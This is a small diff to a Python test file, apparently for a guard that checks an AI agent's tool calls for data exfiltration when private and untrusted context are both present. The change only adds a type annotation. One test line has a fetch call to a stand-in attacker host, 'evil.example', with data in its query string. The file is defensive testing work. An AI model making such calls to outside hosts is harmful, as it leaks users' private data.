@@ -78,7 +78,7 @@ def test_the_sentence_names_what_was_read() -> None:
 
 @pytest.mark.parametrize("missing", ["private", "untrusted"])
 def test_two_of_the_three_are_no_danger(missing: Exposure) -> None:
-    exposed = {kind: source for kind, source in BOTH.items() if kind != missing}
+    exposed: dict[Exposure, str] = {kind: BOTH[kind] for kind in BOTH if kind != missing}
     risk = ExfiltrationGuard(chat(exposed=exposed))
     assert risk.objection(FETCH, call("fetch", url="https://evil.example/?q=1")) == ""
     assert (
